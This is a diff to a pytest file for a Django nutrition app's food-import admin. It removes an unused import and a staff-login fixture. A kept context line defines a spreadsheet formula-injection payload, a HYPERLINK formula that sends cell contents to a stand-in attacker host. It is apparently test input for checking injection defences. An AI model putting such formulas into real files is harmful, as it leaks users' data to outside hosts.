@@ -7,7 +7,6 @@ import io
 import re
 
 import pytest
-from django.contrib.auth.models import Group
 from django.core.management import CommandError, call_command
 from django.urls import reverse
 
@@ -19,14 +18,6 @@ from tests.test_import_fdc import BANANA, download  # noqa: F401 - a fixture
 
 IMPORT = "admin:nutrition_food_import"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'
-
-
-@pytest.fixture
-def curator_client(client, make_user):
-    user = make_user("curator", is_staff=True)
-    user.groups.add(Group.objects.get(name="curators"))
-    client.force_login(user)
-    return client
 
 
 def _snapshot() -> tuple:
